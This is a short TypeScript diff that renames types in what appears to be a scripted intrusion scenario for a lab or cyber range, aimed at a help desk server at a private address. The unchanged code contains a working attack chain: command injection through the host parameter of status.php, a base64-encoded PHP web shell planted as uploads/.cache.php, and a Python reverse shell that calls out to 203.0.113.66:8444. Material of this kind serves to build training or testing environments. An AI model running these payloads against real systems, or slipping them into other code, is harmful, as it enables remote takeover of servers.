@@ -1,10 +1,10 @@
 import { intrude, pause, probe, type, visit } from './requests';
-import type { Stage, StageAct } from './stage';
+import type { IntrusionStage, IntrusionAct } from './intrusion_stage';
 
 const SITE = 'http://10.20.0.11';
-const status = (command: string): StageAct =>
+const status = (command: string): IntrusionAct =>
   intrude('--get', '--data-urlencode', `host=127.0.0.1;${command}`, `${SITE}/status.php`);
-const shell = (command: string): StageAct =>
+const shell = (command: string): IntrusionAct =>
   intrude('--data-urlencode', `c=${command}`, `${SITE}/uploads/.cache.php`);
 
 /** Base64 of `<?php system($_POST["c"]);`. */
@@ -12,7 +12,7 @@ const WEB_SHELL = Buffer.from('<?php system($_POST["c"]);').toString('base64');
 const REVERSE_SHELL = `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.66",8444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")'`;
 
 /** The help desk: a status page that hands its host to the shell, nginx and PHP-FPM. */
-export const web01: Stage = {
+export const web01: IntrusionStage = {
   hostName: 'web-01-nginx',
   setUp: `
     for address in 10.20.0.11 198.51.100.7 198.51.100.40; do ip address add $address/32 dev lo; done
